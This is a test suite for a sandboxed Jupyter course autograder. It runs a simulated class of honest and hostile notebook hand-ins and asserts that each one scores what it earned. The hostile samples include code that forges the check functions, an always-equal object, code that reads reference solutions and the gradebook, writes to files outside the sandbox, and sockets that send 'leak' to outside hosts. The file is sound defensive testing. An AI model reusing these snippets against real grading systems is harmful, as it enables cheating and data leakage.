"""Grading that a hand-in cannot forge or escape: the pieces, and a hostile class end to end.

Fast tests cover the wire format, the scan for flags and the reading of the course's
exercises. The class (fixture `graded_class`) is one `make homework` + `make autograde`
run over honest and hostile hand-ins of notebook 01 and a right hand-in of every notebook:
each hand-in runs in the bubblewrap sandbox, and nbgrader records the verdicts.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import re
import socket
import subprocess
import threading
import time
from pathlib import Path

import nbformat
import numpy as np
import pytest
from _bubblewrap import require_bubblewrap
from _helpers import NOTEBOOKS, ROOT

from course_utils import checks, exercises
from course_utils.grading import grader, scan, wire

SOLUTION = "### BEGIN SOLUTION"
STUB = re.compile(r"# YOUR CODE HERE\n(\s*)raise NotImplementedError\(\)")


def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


# ----------------------------------------------------------------------------- wire format
def test_wire_round_trips_what_answers_are_made_of():
    value = (np.arange(6.0).reshape(2, 3), [1, 2.5, None, "x", True], np.array([3], dtype=np.int64),
             [(3, 1, 0), (2, 2, 0)], float("nan"), {"a": 1})
    back = wire.decode(json.loads(json.dumps(wire.encode(value))))
    assert isinstance(back, tuple) and back[0].shape == (2, 3) and back[0].dtype == float
    np.testing.assert_array_equal(back[0], value[0])
    assert back[1] == [1, 2.5, None, "x", True] and isinstance(back[1][0], int)
    assert back[2].dtype == np.int64 and back[3] == [(3, 1, 0), (2, 2, 0)]
    assert np.isnan(back[4]) and back[5] == {"a": 1}


def test_wire_turns_foreign_objects_and_malformed_data_into_opaque_values():
    class AlwaysEqual:
        def __eq__(self, other):
            return True

    for data in (wire.encode(AlwaysEqual()), wire.encode(1j), wire.encode(np.array([object()])),
                 {"__array__": [1, 2], "shape": [3], "dtype": "float64"},
                 {"__array__": [1], "shape": [1], "dtype": "object"},
                 {"__class__": "os.system"}):
        back = wire.decode(data)
        assert isinstance(back, wire.Opaque), data
        assert exercises.EXERCISES["convolve1d"].compare(np.zeros(1), back) is not None


def test_wire_refuses_a_file_too_large_or_not_json(tmp_path, monkeypatch):
    path = tmp_path / "out.json"
    path.write_text("{not json")
    with pytest.raises(ValueError, match="not the JSON"):
        wire.load(path)
    path.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(ValueError):
        wire.load(path)
    monkeypatch.setattr(wire, "MAX_BYTES", 10)
    path.write_text("[1, 2, 3, 4, 5, 6]")
    with pytest.raises(ValueError, match="more than"):
        wire.load(path)


# ----------------------------------------------------------------------------- the channel
def test_read_regular_refuses_fifos_links_devices_hard_links_and_too_much(tmp_path):
    from course_utils.grading import channel

    (tmp_path / "ok.json").write_bytes(b"[1, 2]")
    assert channel.read_regular(tmp_path, "ok.json", 100) == b"[1, 2]"
    os.mkfifo(tmp_path / "fifo.json")                     # nobody writes: open must not block
    (tmp_path / "zero.json").symlink_to("/dev/zero")
    (tmp_path / "link.json").symlink_to(tmp_path / "ok.json")
    os.link(tmp_path / "ok.json", tmp_path / "hard.json")
    (tmp_path / "big.json").write_bytes(b"x" * 101)
    start = time.monotonic()
    for name, why in (("fifo.json", "not a regular file"), ("zero.json", "cannot be opened"),
                      ("link.json", "cannot be opened"), ("hard.json", "2 links"),
                      ("big.json", "more than the 100")):
        with pytest.raises(channel.Refused, match=why):
            channel.read_regular(tmp_path, name, 100)
    assert time.monotonic() - start < 1
    (tmp_path / "folder").symlink_to(tmp_path)           # a linked folder is not followed either
    with pytest.raises(OSError):
        channel.read_regular(tmp_path / "folder", "ok.json", 100)
    with pytest.raises(channel.Refused, match="not one the grader uses"):
        channel.read_regular(tmp_path, "../ok.json", 100)


def test_frames_keep_whole_records_within_the_budget():
    from course_utils.grading import channel

    stream = channel.frame("hello", b"") + channel.frame("a.json", b"12345") + channel.frame("b", b"x" * 50)
    frames = channel.Frames(budget=len(stream) - 10)
    for at in range(0, len(stream), 7):                  # as a pipe delivers it, in pieces
        frames.feed(stream[at:at + 7])
    assert frames.overflow and frames.parse() == {"hello": b"", "a.json": b"12345"}
    forged = channel.Frames(10**6)
    forged.feed(b"a.json 999999999\nshort")              # a size that is not there
    assert forged.parse() == {}


# ----------------------------------------------------------------------------- the box's package
def test_the_box_package_holds_no_references_and_a_stand_in_for_the_checks():
    from course_utils.grading import calling, sandbox

    copy = sandbox.box_package()
    names = {p.relative_to(copy).as_posix() for p in copy.rglob("*")}
    assert "grading/probe.py" in names and "cnn.py" in names
    assert not [n for n in names if n.split("/")[0].startswith("exercises") or "__pycache__" in n]
    text = "\n".join(p.read_text() for p in copy.rglob("*.py"))
    assert not re.search(r"def \w+_reference\(|^EXERCISES\b", text, re.MULTILINE)
    assert "judged by the grader" in (copy / "checks.py").read_text()
    # the probe's calling is the exercises' own
    adam = exercises.scheduler_exercise()
    cases = adam.cases(np.random.default_rng(3))
    from course_utils.schedulers import Adam
    ours = calling.answer_callable(Adam, "scheduler", dict(adam.settings))
    theirs = exercises.answer_callable(Adam, "scheduler", dict(adam.settings))
    np.testing.assert_array_equal(ours(*cases[0]), theirs(*cases[0]))


@pytest.mark.slow
def test_a_wheel_ships_the_grader_and_the_data_and_grades_from_under_tmp(tmp_path):
    """pip wheel . holds every subpackage and data/ as course_utils/_data (setup.py); installed
    (non-editable, under /tmp) it grades a hand-in in its box."""
    import shutil
    import zipfile

    pip = [str(ROOT / ".venv" / "bin" / "python"), "-m", "pip"]
    source = tmp_path / "source"        # built from a copy: pip leaves build/ where it builds
    for name in ("course_utils", "data"):
        shutil.copytree(ROOT / name, source / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("setup.py", "pyproject.toml", "README.md", "LICENSE", "requirements.txt"):
        shutil.copy2(ROOT / name, source / name)
    result = subprocess.run([*pip, "wheel", "--no-deps", "-q", "-w", str(tmp_path), str(source)],
                            capture_output=True, text=True, timeout=600, check=False)
    assert result.returncode == 0, result.stderr[-2000:]
    wheel = next(tmp_path.glob("*.whl"))
    names = zipfile.ZipFile(wheel).namelist()
    packages = {str(p.parent.relative_to(ROOT)) for p in (ROOT / "course_utils").rglob("__init__.py")}
    for package in packages:
        assert f"{package}/__init__.py" in names, package
    for data in (ROOT / "data").iterdir():
        assert f"course_utils/_data/{data.name}" in names, data.name
    require_bubblewrap()
    site = tmp_path / "site"
    result = subprocess.run([*pip, "install", "--no-deps", "-q", "--target", str(site), str(wheel)],
                            capture_output=True, text=True, timeout=600, check=False)
    assert result.returncode == 0, result.stderr[-2000:]
    script = ("import sys, nbformat, course_utils, course_utils.data as d\n"
              "from course_utils.grading import grader\n"
              f"assert course_utils.__file__.startswith({str(site)!r}), course_utils.__file__\n"
              "assert (d.DATA_DIR / 'china.jpg').is_file(), d.DATA_DIR\n"
              "course = nbformat.read(sys.argv[1], as_version=4)\n"
              "r = grader.grade_notebook(sys.argv[1], course)\n"
              "print(r.status, r.score, r.max_score, r.problems)\n")
    result = subprocess.run([str(ROOT / ".venv" / "bin" / "python"), "-c", script, str(NOTEBOOKS[0])],
                            capture_output=True, text=True, timeout=600, check=False, cwd=tmp_path,
                            env={**os.environ, "PYTHONPATH": str(site)})
    assert result.returncode == 0 and "graded 3.0 3.0 []" in result.stdout, \
        (result.stdout + result.stderr)[-3000:]


def test_cgroup_per_box_limits_processes_where_cgroups_can_be_made():
    from course_utils.grading.cgroup import Cgroup

    group = Cgroup.create(memory=2**28, pids=8, cpus=0.5)
    if group is None:
        pytest.skip("no cgroup can be made here (not root, no delegated cgroup): "
                    "the boxes keep only their per-process limits")
    try:
        child = subprocess.Popen(["/bin/sh", "-c", ('for f in $P; do echo $$ > "$f"; done; '
                                  'for i in $(seq 30); do sleep 5 & done; wait')],
                                 env={**os.environ, "P": " ".join(map(str, group.procs))},
                                 stderr=subprocess.PIPE)
        time.sleep(1)
        assert 1 <= len(group.pids()) <= 8
    finally:
        group.remove()
    child.wait(timeout=10)
    assert group.pids() == []


# ----------------------------------------------------------------------------- course exercises
@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.stem)
def test_every_graded_exercise_is_read_from_its_check_cell_and_judges_the_solution(path):
    """The stored solution passes the grader's judgement on cases from a fresh seed."""
    course = nbformat.read(path, as_version=4)
    graded = grader.course_exercises(course)
    answers = [_meta(c)["grade_id"] for c in course.cells if SOLUTION in c.source]
    assert [g.answer_id for g in graded] == answers
    namespace = {"np": np}
    # A model exercise's answer is a trained network, judged from its file by judge_model
    # (tests/test_exercises_models.py); its cell trains, so it is not run here.
    models = {g.answer_id for g in graded if g.exercise.kind == "model"}
    for cell in course.cells:
        if SOLUTION in cell.source and _meta(cell).get("grade_id") not in models:
            exec(cell.source, namespace)  # noqa: S102 -- the course's own reference answer
    rng = np.random.default_rng(12345)
    for g in graded:
        if g.answer_id in models:
            continue
        cases = g.exercise.cases(rng)
        target = g.exercise.student_callable(namespace[g.answer])
        outcomes = [checks.call(target, args) for args in cases]
        # through the wire, as the grader receives it
        outcomes = [checks.Outcome(value=wire.decode(json.loads(json.dumps(wire.encode(o.value)))))
                    for o in outcomes]
        passed, lines = checks.judge(g.exercise, g.answer, cases, outcomes)
        assert passed, lines


def test_cells_to_run_are_the_imports_and_the_exercises_section():
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell("%matplotlib inline\nimport numpy as np\nx = train()"),
        nbformat.v4.new_code_cell("from course_utils import CNN\nCNN().fit()"),
        nbformat.v4.new_markdown_cell("## Exercises"),
        nbformat.v4.new_code_cell("def my_f(x):\n    return x"),
    ])
    preamble, section = grader.cells_to_run(nb)
    assert preamble == "import numpy as np\nfrom course_utils import CNN"
    assert section == [3]


def test_scan_flags_checks_internals_and_the_courses_own_implementation():
    course = {"from course_utils.checks import check_convolve1d, points\n\npoints(check_convolve1d(my_convolve1d))"}
    cells = [
        (0, "from course_utils.checks import check_convolve1d, points\n\npoints(check_convolve1d(my_convolve1d))"),
        (1, "def my_convolve1d(x, w):\n    return np.convolve(x, w)"),
        (2, "import sys\nsys.modules['course_utils.checks'].points = lambda *a: 1.0"),
        (3, "get_ipython().showtraceback = lambda *a, **k: None"),
        (4, "import builtins\nbuiltins.print = None"),
        (5, "def my_convolve2d(image, kernel):\n    return image[:1]"),
        (6, "getattr(__import__('course_utils'), 'che' + 'cks')"),
        (7, "notes = open('/home/ta/grading/checks.txt').read()"),
        (8, "import importlib\nimportlib.import_module('course_utils.checks')"),
        (9, "from course_utils.exercises import EXERCISES\nEXERCISES['convolve1d'].reference"),
        (10, "import course_utils.exercises._conv as c"),
        (11, "import course_utils as cu\ncu.exercises._conv_backward_reference(1, 2, 3)"),
        (12, "from course_utils import exercises"),
    ]
    flagged = scan.flags(cells, course, {"my_convolve1d": ("convolve",), "my_convolve2d": ("convolve2d",)})
    assert [f.answer for f in flagged if f.answer] == ["my_convolve1d"]
    found = [str(f) for f in flagged]
    assert found[0] == "cell 1 (my_convolve1d): uses convolve, an implementation of this very exercise"
    assert any(f.startswith("cell 2: touches") and "sys.modules" in f for f in found)
    assert any(f.startswith("cell 3: touches the IPython shell") for f in found)
    assert any(f.startswith("cell 4: touches builtins") for f in found)
    assert any(f.startswith("cell 6: touches") and "dynamic imports" in f for f in found)
    assert any(f.startswith("cell 8: touches") and "course_utils.checks" in f for f in found)
    for cell in (9, 10, 11, 12):
        assert any(f.startswith(f"cell {cell}: touches") and "course_utils.exercises" in f
                   for f in found), (cell, found)
    assert not any(f.startswith(("cell 0", "cell 5", "cell 7")) for f in found)


def test_a_hand_in_that_is_not_a_notebook_is_refused_before_anything_runs(tmp_path):
    garbage = tmp_path / "garbage.ipynb"
    garbage.write_text("this is not JSON")
    with pytest.raises(grader.HandinError, match="not a Jupyter notebook"):
        grader.read_handin(garbage)
    result = grader.grade_notebook(garbage, nbformat.read(NOTEBOOKS[0], as_version=4))
    assert result.status == "not a notebook" and result.score == 0 and result.max_score == 3


# ----------------------------------------------------------------------------- hostile hand-ins
def _answer(cell, body: str) -> None:
    assert STUB.search(cell.source), cell.source
    cell.source = STUB.sub(lambda m: body, cell.source, count=1)


def _fill(release, course, sources: dict[str, str]) -> nbformat.NotebookNode:
    """A copy of the release; answer cell grade_id -> its new source ("right": the solution)."""
    nb = copy.deepcopy(release)
    solutions = {_meta(c).get("grade_id"): c.source for c in course.cells if SOLUTION in c.source}
    for cell in nb.cells:
        grade_id = _meta(cell).get("grade_id")
        if grade_id in sources:
            cell.source = solutions[grade_id] if sources[grade_id] == "right" else sources[grade_id]
    return nb


RIGHT = "right"
ONE, TWO, THREE = "my_convolve1d", "my_convolve2d", "my_cross_correlate2d"
FORGE_CHECKS = """import course_utils.checks as C

def _passed(f, *args, **kwargs):
    print("✔ passed 13 cases")
    return True

for _name in dir(C):
    if _name.startswith("check_"):
        setattr(C, _name, _passed)

def my_convolve1d(x, w):
    return None
"""
ALWAYS_EQUAL = """class Equal(float):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False

def {name}(*args):
    return Equal(1.0)
"""


def _hostile(release, course, sandbox_root: Path, port: int) -> dict[str, tuple[nbformat.NotebookNode, dict]]:
    """student -> (hand-in of notebook 01, expected points per exercise)."""
    zero = {ONE: 0.0, TWO: 0.0, THREE: 0.0}
    secrets_paths = [ROOT / "notebooks" / "01_convolution.ipynb", sandbox_root / "gradebook.db",
                     sandbox_root / "source" / "01_convolution" / "01_convolution.ipynb"]
    reader = ("import json\n"
              f"def {{name}}(*args):\n"
              f"    for path in {[str(p) for p in secrets_paths]!r}:\n"
              "        text = open(path).read()\n"
              "        cells = json.loads(text)['cells']\n"
              "        source = next(''.join(c['source']) for c in cells if '{name}' in ''.join(c['source']) and 'BEGIN SOLUTION' in ''.join(c['source']))\n"
              "        space = {{'np': np}}\n"
              "        exec(source, space)\n"
              "        return space['{name}'](*args)\n")
    writes = [ROOT / "notebooks" / "PWNED.txt", sandbox_root / "PWNED.txt", Path("/tmp/PWNED-grading.txt"),
              Path.home() / "PWNED.txt"]
    writer = "".join(f"try:\n    open({str(p)!r}, 'w').write('x')\nexcept OSError as error:\n    print(error)\n"
                     for p in writes)
    network = (f"import socket\nfor address in [('127.0.0.1', {port}), ('10.0.2.2', 80), ('8.8.8.8', 53)]:\n"
               "    try:\n        socket.create_connection(address, timeout=3).sendall(b'leak')\n"
               "    except OSError as error:\n        print(address, error)\n")
    plans = {
        "forger": ({ONE: FORGE_CHECKS, TWO: "def my_convolve2d(image, kernel):\n    return None",
                    THREE: "def my_cross_correlate2d(image, kernel):\n    return None"}, zero),
        "pointer": ({ONE: "import course_utils.checks\ncourse_utils.checks.points = lambda *a, **k: 1.0\n"
                          "def my_convolve1d(x, w):\n    return None"}, zero),
        "equalizer": ({name: ALWAYS_EQUAL.format(name=name) for name in (ONE, TWO, THREE)}, zero),
        "silencer": ({ONE: "get_ipython().showtraceback = lambda *a, **k: None\n"
                           "def my_convolve1d(x, w):\n    raise ValueError('hidden')",
                      TWO: "def my_convolve2d(image, kernel):\n    return kernel"}, zero),
        "reader": ({name: reader.format(name=name) for name in (ONE, TWO, THREE)}, zero),
        "writer": ({ONE: "right", TWO: "right", THREE: writer + course_source(course, THREE)},
                   {ONE: 1.0, TWO: 1.0, THREE: 1.0}),
        "caller": ({ONE: network + course_source(course, ONE), TWO: "right", THREE: "right"},
                   {ONE: 1.0, TWO: 1.0, THREE: 1.0}),
        "hog": ({ONE: course_source(course, ONE) + "\nhog = np.ones(2**37 // 8)",
                 TWO: "def my_convolve2d(image, kernel):\n    return np.ones(2**37 // 8)",
                 THREE: "right"}, {ONE: 1.0, TWO: 0.0, THREE: 1.0}),
        "looper": ({ONE: "right", TWO: course_source(course, TWO) + "\nwhile True:\n    pass",
                    THREE: "def my_cross_correlate2d(image, kernel):\n    while True:\n        pass"},
                   {ONE: 1.0, TWO: 1.0, THREE: 0.0}),
        # honest students
        "alice": ({ONE: "right", TWO: "def my_convolve2d(image, kernel):\n    return None"},
                  {ONE: 1.0, TWO: 0.0, THREE: 0.0}),
        "bob": ({ONE: "right", TWO: "right", THREE: "right"}, {ONE: 1.0, TWO: 1.0, THREE: 1.0}),
        "carol": ({}, zero),
    }
    return {student: (_fill(release, course, sources), expected)
            for student, (sources, expected) in plans.items()}


def course_source(course, grade_id: str) -> str:
    return next(c.source for c in course.cells if _meta(c).get("grade_id") == grade_id)


class _Listener:
    """A TCP server on the host's loopback that records every connection it gets."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()


@pytest.fixture(scope="session")
def graded_class(homework_course, tmp_path_factory):
    """Every hand-in above plus a right hand-in of each notebook, through `make autograde`."""
    require_bubblewrap()
    course_dir = homework_course["course"]
    base = tmp_path_factory.mktemp("class")
    submitted = base / "submitted"
    listener = _Listener()
    course01 = nbformat.read(NOTEBOOKS[0], as_version=4)
    release01 = nbformat.read(course_dir / "release" / NOTEBOOKS[0].stem / NOTEBOOKS[0].name, as_version=4)
    expected = {}
    for student, (nb, points) in _hostile(release01, course01, course_dir, listener.port).items():
        target = submitted / student / NOTEBOOKS[0].stem / NOTEBOOKS[0].name
        target.parent.mkdir(parents=True)
        nbformat.write(nb, target)
        expected[(student, NOTEBOOKS[0].stem)] = points
    for student, content in (("garbage", b"{ this is not JSON"), ("huge", None)):
        target = submitted / student / NOTEBOOKS[0].stem / NOTEBOOKS[0].name
        target.parent.mkdir(parents=True)
        if content is None:
            with target.open("wb") as out:       # 200 MB of a valid-looking notebook start
                out.write(b'{"cells": [{"cell_type": "code", "source": "' + b"x" * (200 * 2**20) + b'"')
        else:
            target.write_bytes(content)
        expected[(student, NOTEBOOKS[0].stem)] = {ONE: 0.0, TWO: 0.0, THREE: 0.0}
    for path in NOTEBOOKS:
        course = nbformat.read(path, as_version=4)
        release = nbformat.read(course_dir / "release" / path.stem / path.name, as_version=4)
        answers = [_meta(c)["grade_id"] for c in course.cells if SOLUTION in c.source]
        target = submitted / "ref" / path.stem / path.name
        target.parent.mkdir(parents=True)
        nbformat.write(_fill(release, course, dict.fromkeys(answers, RIGHT)), target)
        # full points: the check cell's points (a model exercise may be worth more than 1)
        worth = {_meta(c)["grade_id"].removeprefix("check_"): float(_meta(c).get("points", 1))
                 for c in course.cells if _meta(c).get("grade")}
        expected[("ref", path.stem)] = {answer: worth[answer] for answer in answers}
    before = _snapshot(ROOT, course_dir)
    env = {**os.environ, "MAKEFLAGS": ""}
    result = subprocess.run(
        ["make", "--no-print-directory", "autograde", f"COURSE_DIR={course_dir}",
         f"SUBMITTED={submitted}",
         # the "ref" hand-ins are the self-test's notebooks already (test_grading_attacks.py
         # runs the self-test): not twice
         "GRADE_FLAGS=--cell-seconds 15 --wall-seconds 150 --memory-gib 4 --no-self-test"],
        cwd=ROOT, check=False, capture_output=True, text=True, env=env, timeout=1800)
    log = result.stdout + result.stderr
    assert result.returncode == 0, log[-5000:]
    feedback = subprocess.run(["make", "--no-print-directory", "feedback", f"COURSE_DIR={course_dir}"],
                              cwd=ROOT, check=False, capture_output=True, text=True, env=env,
                              timeout=900)
    assert feedback.returncode == 0, (feedback.stdout + feedback.stderr)[-3000:]
    return {"course": course_dir, "expected": expected, "log": log, "listener": listener,
            "before": before, "after": _snapshot(ROOT, course_dir)}


def _snapshot(*folders: Path) -> dict[str, float]:
    """Every file under the folders (but the grader's own output) and /tmp, with its mtime."""
    seen = {}
    for folder in folders:
        for path in folder.rglob("*"):
            if any(part in (".venv", "verdicts", "autograded", "feedback", ".git", "__pycache__",
                            "submitted") for part in path.parts) or path.name in (
                    "gradebook.db", "grading_report.csv", "grades.csv"):
                continue
            if path.is_file():
                seen[str(path)] = path.stat().st_mtime
    return seen


def _scores(course_dir: Path, assignment: str, student: str) -> dict[str, float]:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course_dir / 'gradebook.db'}") as gb:
        notebook = gb.find_submission_notebook(assignment, assignment, student)
        return {grade.name.removeprefix("check_"): grade.score for grade in notebook.grades}


def test_every_hand_in_scores_exactly_what_it_earned(graded_class):
    for (student, assignment), points in graded_class["expected"].items():
        if student in ("garbage", "huge"):
            continue   # nbgrader cannot read them; the grader's report holds their zero
        assert _scores(graded_class["course"], assignment, student) == points, \
            (student, assignment, graded_class["log"][-3000:])


def test_unreadable_hand_ins_are_reported_with_zero_and_the_class_goes_on(graded_class):
    rows = {(r["student"], r["assignment"]): r
            for r in csv.DictReader((graded_class["course"] / "grading_report.csv").open())}
    for student in ("garbage", "huge"):
        row = rows[(student, "01_convolution")]
        assert row["status"] == "not a notebook" and float(row["score"]) == 0, row
    assert float(rows[("bob", "01_convolution")]["score"]) == 3
    grades = {(r["student_id"], r["assignment"]): r
              for r in csv.DictReader((graded_class["course"] / "grades.csv").open())}
    assert float(grades[("forger", "01_convolution")]["score"]) == 0
    assert float(grades[("ref", "07_keras_grid_search")]["score"]) == 2


def test_forgers_are_flagged_for_review_in_the_gradebook(graded_class):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{graded_class['course'] / 'gradebook.db'}") as gb:
        def flagged(student):
            notebook = gb.find_submission_notebook("01_convolution", "01_convolution", student)
            return {g.name for g in notebook.grades if g.needs_manual_grade}

        for student in ("forger", "pointer", "silencer"):
            assert flagged(student), student
        for student in ("alice", "bob", "carol", "writer"):
            assert not flagged(student), student
        comment = gb.find_comment(ONE, "01_convolution", "01_convolution", "forger")
        assert "course_utils.checks" in comment.auto_comment


def test_nothing_outside_the_scratch_folder_changed_and_no_connection_left(graded_class):
    before, after = graded_class["before"], graded_class["after"]
    assert [p for p in after if p not in before] == []
    assert [p for p in before if after.get(p) != before[p]] == []
    for path in (ROOT / "notebooks" / "PWNED.txt", Path("/tmp/PWNED-grading.txt"),
                 Path.home() / "PWNED.txt", graded_class["course"] / "PWNED.txt"):
        assert not path.exists(), path
    assert graded_class["listener"].connections == 0


def test_feedback_shows_the_graders_verdict_for_a_wrong_answer(graded_class):
    html = (graded_class["course"] / "feedback" / "alice" / "01_convolution"
            / "01_convolution.html").read_text()
    failed = re.search(rf"✘ {TWO}: failed on case 1 of \d+ \((.*?)\)", html)
    assert failed and "returned None" in failed.group(1), html[-3000:]
    after = html[failed.end():]
    assert "input " in after[:3000] and "expected:" in after and "got:" in after
    assert f"✔ {ONE}: passed" in html
    assert f"{THREE}: not answered" in html


# ----------------------------------------------------------------------------- formgrader
def test_formgrader_in_the_browser_lists_every_assignment(graded_class, tmp_path):
    """A teaching assistant's view: JupyterLab with nbgrader's formgrader on the course."""
    from _chromium import chromium, require_chromium
    from _lab import jupyterlab

    require_chromium()
    course = graded_class["course"]
    # The project's nbgrader_config.py, with the throw-away course as its root. The
    # server's root folder must contain the course folder.
    root = course.parent
    (root / "nbgrader_config.py").write_text(
        f"config = {str(ROOT / 'nbgrader_config.py')!r}\n"
        "exec(compile(open(config).read(), config, 'exec'),\n"
        "     {'get_config': get_config, '__file__': config})\n"
        f"get_config().CourseDirectory.root = {str(course)!r}\n")
    with jupyterlab(root, tmp_path) as lab, chromium() as driver:
        driver.get(f"{lab['url']}/formgrader?token={lab['token']}")
        deadline = time.monotonic() + 60
        while True:
            text = driver.execute_script("return document.body ? document.body.innerText : ''")
            rows = [line for line in text.splitlines() if line.startswith(tuple(
                path.stem for path in NOTEBOOKS))]
            if len(rows) == len(NOTEBOOKS) or time.monotonic() > deadline:
                break
            time.sleep(0.5)
        assert "Manage Assignments" in text, text[-2000:]
        assert [row.split()[0] for row in rows] == [path.stem for path in NOTEBOOKS], text[-2000:]
        # Every assignment shows its hand-ins (notebook 01: the whole hostile class).
        students = {path.stem: len({s for s, a in graded_class["expected"] if a == path.stem})
                    for path in NOTEBOOKS}
        for row, path in zip(rows, NOTEBOOKS):
            assert str(students[path.stem]) in row.split()[1:], row


# ----------------------------------------------------------------------------- the box's limits
def _endless(tmp_path) -> Path:
    course = nbformat.read(NOTEBOOKS[0], as_version=4)
    nb = copy.deepcopy(course)
    first = next(c for c in nb.cells if SOLUTION in c.source)
    first.source += "\nwhile True:\n    pass"
    path = tmp_path / "endless.ipynb"
    nbformat.write(nb, path)
    return path


def test_a_notebook_past_its_wall_clock_limit_is_killed_and_scores_nothing(tmp_path):
    from course_utils.grading import sandbox

    require_bubblewrap()
    course = nbformat.read(NOTEBOOKS[0], as_version=4)
    limits = sandbox.Limits(wall_seconds=10, cell_seconds=1000)
    result = grader.grade_notebook(_endless(tmp_path), course, limits)
    assert result.status == "timed out" and result.score == 0, result
    assert "time limit of 10 s" in result.problems[0]
    assert result.seconds < 30


def test_without_bubblewrap_grading_stops_and_says_what_to_install(tmp_path, monkeypatch, capsys):
    from course_utils.grading import __main__ as cli
    from course_utils.grading import sandbox

    (tmp_path / "submitted").mkdir()
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    assert cli.main([str(tmp_path)]) == 2
    assert "apt-get install bubblewrap" in capsys.readouterr().err


def test_unsafe_mode_runs_without_the_box_only_when_asked(tmp_path, capsys):
    from course_utils.grading import __main__ as cli

    course = nbformat.read(NOTEBOOKS[0], as_version=4)
    (tmp_path / "release" / "01_convolution").mkdir(parents=True)
    nbformat.write(course, tmp_path / "release" / "01_convolution" / "01_convolution.ipynb")
    (tmp_path / "source" / "01_convolution").mkdir(parents=True)
    nbformat.write(course, tmp_path / "source" / "01_convolution" / "01_convolution.ipynb")
    (tmp_path / "submitted" / "dora" / "01_convolution").mkdir(parents=True)
    nbformat.write(course, tmp_path / "submitted" / "dora" / "01_convolution" / "01_convolution.ipynb")
    assert cli.main([str(tmp_path), "--unsafe-no-sandbox", "--jobs", "2"]) == 0
    captured = capsys.readouterr()
    assert "WARNING: grading without a sandbox" in captured.err
    assert "self-test 01_convolution: passed" in captured.out
    assert "dora" in captured.out and "3/3" in captured.out
    rows = list(csv.DictReader((tmp_path / "grading_report.csv").open()))
    assert [(r["student"], float(r["score"])) for r in rows] == [("dora", 3.0)]
